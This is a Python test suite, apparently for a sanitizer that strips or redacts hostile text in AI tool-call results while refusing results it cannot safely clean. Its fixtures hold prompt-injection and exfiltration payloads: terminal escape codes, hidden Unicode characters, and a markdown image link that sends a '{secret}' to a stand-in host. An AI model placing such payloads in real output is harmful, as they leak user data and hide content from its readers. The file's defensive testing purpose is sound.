"""Taking out what was found: that alone, and nothing is left of it."""

from __future__ import annotations

import copy
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hauberk.refusals import Refused
from hauberk_sieve.text import Leaf, Packs, Rule, Scanner, walk
from hauberk_sieve.text._judge import Outcome, judge
from hauberk_sieve.text._rewrite import can_cut, cut, replaced

RESULTS = Scanner(Packs.load().rules, "results")
POISON = (
    "x\x1b[31mred",
    "a\u202eb",
    "i\u200bg",
    "![a](https://b.example/?q={secret})",
    "nul\x00",
    "t\U000e0041\U000e0042",
    "\x1b\x1b[[mm",
    "![a](https://b.example/\u200b?q={s})",
)
TEXT = st.sampled_from(POISON) | st.text("ab {}\u200b\x1b[]()!", max_size=12)
BLOCK = st.fixed_dictionaries({"type": st.just("text"), "text": TEXT})
RESULT = st.fixed_dictionaries(
    {"content": st.lists(BLOCK, max_size=4), "isError": st.booleans()},
    optional={
        "structuredContent": st.dictionaries(
            st.sampled_from("abc"), TEXT | st.integers(-(2**63), 2**64 - 1) | st.lists(TEXT)
        )
    },
)


def judged(scanner: Scanner, result: Any, method: str = "tools/call", *, promised: bool = False) -> Outcome:
    data = {"jsonrpc": "2.0", "id": 1, "result": result}
    found = scanner.scan(walk(result, ("result",)))
    return judge(scanner, found, data, method, promised=promised)


def shape(value: Any) -> Any:
    """Return a value with each string as nothing but a string."""
    if isinstance(value, dict):
        return {key: shape(item) for key, item in value.items()}
    if isinstance(value, list):
        return [shape(item) for item in value]
    return "" if isinstance(value, str) else value


@given(RESULT)
def test_what_is_cut_is_gone_and_all_else_stays(result: dict[str, Any]) -> None:
    """A result keeps its structure, its types and every clean leaf, byte for byte; cutting twice is cutting once."""
    before = copy.deepcopy(result)
    try:
        outcome = judged(RESULTS, result)
    except Refused:
        return  # what cannot be cut out for good is refused whole
    after = outcome.data["result"]
    assert result == before
    assert shape(after) == shape(result)
    dirty = {path[1:] for path in outcome.done}
    assert all(
        old == new
        for old, new in zip(walk(result).located(), walk(after).located(), strict=True)
        if old.path not in dirty
    )
    assert all(one.action == "alert" for one in RESULTS.scan(walk(after)).findings)
    assert orjson.dumps(judged(RESULTS, after).data["result"]) == orjson.dumps(after)


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("a\x1b[31mb\x1b[0mc", "abc"),
        ("see ![a](https://b.example/?q={s}) there", "see [removed: exfiltration.image-placeholder] there"),
        ("x\U000e0041\u200by", "xy"),
        ("\x1b\x1b[2J[2Jz", "[2Jz"),
        ("1\x00\x002", "12"),
        ("a\r\nb\tc", "a\r\nb\tc"),
    ],
)
def test_invisible_is_cut_and_visible_is_marked(text: str, left: str) -> None:
    """What nobody sees is cut out without a trace; what somebody sees leaves the id of the rule."""
    assert judged(RESULTS, {"content": [{"type": "text", "text": text}]}).data["result"]["content"][0]["text"] == left


def test_halves_that_make_a_whole_are_found() -> None:
    """What two halves make, once what stood between is cut out, is taken out too."""
    text = "![a](https://b.example/?q=\x1b[0m{sec\x00ret}) z"
    (leaf,) = walk(text).located()
    (left,) = [cut(RESULTS, leaf, RESULTS.scan_text(text))]
    assert left == "[removed: exfiltration.image-placeholder] z"


def endless(text: str) -> tuple[Rule, ...]:
    where: Any = {"results": "redact"}
    return (Rule(id="p.r", title="t", severity="info", where=where, patterns=(text,), catches=("x",), spares=("y",)),)


def test_marker_that_is_found_itself_is_no_way_out() -> None:
    """A rule that finds its own marker cannot cut, so the result is refused."""
    scanner = Scanner(endless("removed|bad"), "results")
    with pytest.raises(Refused) as refused:
        judged(scanner, {"content": [{"type": "text", "text": "bad"}]})
    assert refused.value.rule == "p.r"


@pytest.mark.parametrize(
    "result",
    [
        {"structuredContent": {"bad": 1}},
        {"structuredContent": {"n": [ord(char) for char in "all bad 7"]}},
        {"content": [{"type": "resource_link", "uri": "a:bad", "name": "x"}]},
        {"content": [{"type": "resource_link", "uri": "a:b", "name": "bad"}]},
        {"contents": [{"uri": "a:b", "mimeType": "text/plain", "blob": "YmFkIQ=="}]},
        {"nextCursor": "bad"},
        {"_meta": {"bad": None}},
    ],
    ids=["key", "codes", "uri", "name", "encoded", "cursor", "meta"],
)
def test_what_means_something_is_not_cut(result: dict[str, Any]) -> None:
    """A key, codes, an address, a name, what was decoded, a cursor: the result is refused, and the leaf is named."""
    with pytest.raises(Refused, match=r"the text at '/result/") as refused:
        judged(Scanner(endless("bad"), "results"), result)
    assert (refused.value.code, refused.value.rule) == ("sieve.text", "p.r")


def test_number_is_not_cut() -> None:
    """A rule that finds a number refuses the result (A48)."""
    with pytest.raises(Refused, match="/result/structuredContent/n"):
        judged(Scanner(endless("4242"), "results"), {"structuredContent": {"n": 42424}})


@pytest.mark.parametrize("promised", [False, True])
def test_promised_structure_is_not_cut(promised: bool) -> None:
    """Text in structuredContent is cut, unless an outputSchema says what it is; content is cut in either case (A48)."""
    scanner = Scanner(endless("bad"), "results")
    marked = "[removed: p.r]"
    result = {"content": [{"type": "text", "text": "bad"}], "structuredContent": {"name": "bad"}}
    if promised:
        with pytest.raises(Refused, match="/result/structuredContent/name"):
            judged(scanner, result, promised=True)
        del result["structuredContent"]
    after = judged(scanner, result, promised=promised).data["result"]
    assert after["content"][0]["text"] == marked
    assert promised or after["structuredContent"] == {"name": marked}


def test_too_many_places_are_refused() -> None:
    """Where more is found in a leaf than is listed, nothing is cut and all is refused."""
    with pytest.raises(Refused):
        judged(Scanner(endless("a"), "results"), {"content": [{"type": "text", "text": "ab" * 300}]})


def test_too_many_findings_are_refused() -> None:
    """Where more is found in a message than is listed, the rest is taken for the worst."""
    with pytest.raises(Refused, match="more than 1000 findings"):
        judged(Scanner(endless("a"), "results"), {"content": [{"type": "text", "text": "ab"}] * 1001})


def test_only_the_way_to_a_leaf_is_copied() -> None:
    """What was not changed is the very object that came."""
    root: dict[str, Any] = {"a": [{"b": "x"}, {"b": "y"}], "c": {"d": "z"}}
    after = replaced(root, {("a", 1, "b"): "new"})
    assert after == {"a": [{"b": "x"}, {"b": "new"}], "c": {"d": "z"}}
    assert after["a"][0] is root["a"][0]
    assert after["c"] is root["c"]
    assert root["a"][1] == {"b": "y"}


def test_description_can_be_cut_and_a_default_cannot() -> None:
    """In a schema, text for a reader is text, and all else has a meaning."""
    path = ("result", "tools", 0, "inputSchema", "properties", "a")
    assert can_cut(Leaf((*path, "description"), "x", "text"))
    assert can_cut(Leaf((*path, "title"), "x", "text"))
    assert not can_cut(Leaf((*path, "default"), "x", "text"))
    assert not can_cut(Leaf((*path, "enum", 3), "x", "text"))
